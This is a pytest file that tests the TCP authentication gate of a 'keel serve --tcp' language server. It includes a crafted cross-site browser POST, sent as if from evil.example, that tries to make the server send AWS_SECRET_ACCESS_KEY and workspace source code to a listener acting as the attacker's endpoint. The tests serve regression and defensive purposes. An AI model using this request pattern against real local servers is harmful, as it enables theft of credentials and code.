"""`keel serve --tcp` as an attacker meets it: a web page and other local processes can connect.

Before the gate, a browser's `POST /` whose body held initialize (a provider at the
attacker, `apiKeyEnv: AWS_SECRET_ACCESS_KEY`), initialized and keel/runWorkflow was
served: the key and the workspace's code went to the attacker's endpoint.
"""

from __future__ import annotations

import asyncio
import sys

import pytest

from .helpers import poll_until, until_serving
from .tcp import TcpClient, closed_unanswered, frame, start_tcp_server

pytestmark = pytest.mark.timeout(90)

TOKEN = "the-editors-token-0123456789abcdefghij"
CANARY = "AKIA-canary-secret-that-must-not-leave"


class Listener:
    """The attacker's 'provider': counts every byte anyone sends it."""

    def __init__(self) -> None:
        self.received = 0
        self.connections = 0

    async def start(self) -> int:
        async def on_connect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.connections += 1
            while chunk := await reader.read(65536):
                self.received += len(chunk)
            writer.close()

        self._server = await asyncio.start_server(on_connect, "127.0.0.1", 0)
        return self._server.sockets[0].getsockname()[1]

    def close(self) -> None:
        self._server.close()


def browser_post(port: int, listener_port: int, attacker_workspace) -> bytes:
    """fetch('http://127.0.0.1:port/', {method: 'POST', mode: 'no-cors', body}) as Chrome sends it."""
    options = {"workspaceTrusted": True, "settings": {"providers": [
        {"id": "evil", "kind": "openai", "baseUrl": f"http://127.0.0.1:{listener_port}/v1",
         "apiKeyEnv": "AWS_SECRET_ACCESS_KEY", "models": {"fast": "m", "balanced": "m", "deep": "m"}}]}}
    body = (frame({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                "processId": None, "rootUri": attacker_workspace.as_uri(), "capabilities": {},
                "initializationOptions": options}})
            + frame({"jsonrpc": "2.0", "method": "initialized", "params": {}})
            + frame({"jsonrpc": "2.0", "id": 2, "method": "keel/runWorkflow",
                     "params": {"workflow": "review", "target": "."}}))
    return (b"POST / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: keep-alive\r\nContent-Length: %d\r\n"
            b"Origin: https://evil.example\r\nContent-Type: text/plain;charset=UTF-8\r\n"
            b"Sec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: empty\r\n\r\n"
            % (port, len(body))) + body


async def serve_the_real_client(port: int, workspace) -> TcpClient:
    client = await TcpClient.connect(port, TOKEN)
    answer = await client.request(1, "initialize", {"processId": None, "rootUri": workspace.as_uri(),
                                                    "capabilities": {}})
    assert "result" in answer, answer
    ids = iter(range(100, 10_000))
    report = await until_serving(lambda: client.answer(next(ids), "keel/health"))
    assert report["version"]
    return client


async def test_a_web_pages_post_is_closed_unserved_and_the_editor_still_connects(tmp_path, workspace):
    attacker = tmp_path / "attacker"
    attacker.mkdir()
    (attacker / "secret_source.py").write_text("API_SECRET = 'source code that must stay here'\n")
    listener = Listener()
    listener_port = await listener.start()
    server = await start_tcp_server(tmp_path, TOKEN, AWS_SECRET_ACCESS_KEY=CANARY)
    try:
        page = await TcpClient.connect(server.port)
        page.writer.write(browser_post(server.port, listener_port, attacker))
        assert await closed_unanswered(page.reader)
        client = await serve_the_real_client(server.port, workspace)
        runs = await client.answer(5, "keel/runs", {"limit": 10})
        assert runs["runs"] == []  # the page's run never started
        client.close()
        assert await asyncio.wait_for(server.process.wait(), 30) == 0
        assert (listener.connections, listener.received) == (0, 0)
        stderr = server.stderr_seen + await server.process.stderr.read()
        assert b"closed an unauthenticated TCP connection" in stderr
        assert b"HTTP request (POST)" in stderr and CANARY.encode() not in stderr
    finally:
        listener.close()
        await server.stop()


@pytest.mark.parametrize("first", [
    frame({"jsonrpc": "2.0", "method": "keel/authenticate", "params": {"token": "x" * len(TOKEN)}}),
    frame({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"processId": None, "capabilities": {}}}),
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n\r\n",
], ids=["wrong token", "initialize without authenticating", "websocket upgrade"])
async def test_a_connection_that_does_not_prove_the_token_first_is_closed_and_takes_no_place(
        tmp_path, workspace, first):
    server = await start_tcp_server(tmp_path, TOKEN)
    try:
        other = await TcpClient.connect(server.port)
        other.writer.write(first + frame({"jsonrpc": "2.0", "id": 9, "method": "keel/health", "params": {}}))
        assert await closed_unanswered(other.reader)
        client = await serve_the_real_client(server.port, workspace)
        client.close()
    finally:
        await server.stop()


async def test_after_authenticating_a_frame_with_an_origin_header_closes_the_connection(tmp_path, workspace):
    server = await start_tcp_server(tmp_path, TOKEN)
    try:
        client = await serve_the_real_client(server.port, workspace)
        client.writer.write(b"Content-Length: 2\r\nOrigin: https://evil.example\r\n\r\n{}")
        assert await asyncio.wait_for(client.reader.read(), 30) == b""  # closed
        assert await asyncio.wait_for(server.process.wait(), 30) == 0  # its one client has gone
    finally:
        await server.stop()


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc/<pid>/environ")
async def test_the_token_is_in_no_process_the_server_starts(tmp_path, workspace):
    from keel.lsp.watchdog import descendants

    server = await start_tcp_server(tmp_path, TOKEN)
    try:
        client = await serve_the_real_client(server.port, workspace)
        client.writer.write(frame({"jsonrpc": "2.0", "method": "initialized", "params": {}}))
        children = await poll_until(lambda: descendants(server.process.pid), lambda pids: len(pids) >= 2,
                                    "the fork server and a warm worker are running")
        environs = environments(children)
        assert environs and all(b"XDG_STATE_HOME=" in env for env in environs.values())
        assert [pid for pid, env in environs.items() if TOKEN.encode() in env] == []
        client.close()
    finally:
        await server.stop()


def environments(pids) -> dict[int, bytes]:
    """Each process's environment as the kernel holds it (what it was started with)."""
    found = {}
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found[pid] = handle.read()
        except OSError:
            continue  # gone meanwhile
    return found


async def test_a_short_token_from_the_client_is_refused_at_start(tmp_path):
    from .helpers import server_env

    env = server_env(tmp_path, KEEL_SERVER_TOKEN="abc123")
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "keel", "serve", "--tcp", stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, env=env)
    out, err = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode == 2 and out == b""
    assert b"KEEL_SERVER_TOKEN is shorter than 16 characters" in err and b"abc123" not in err
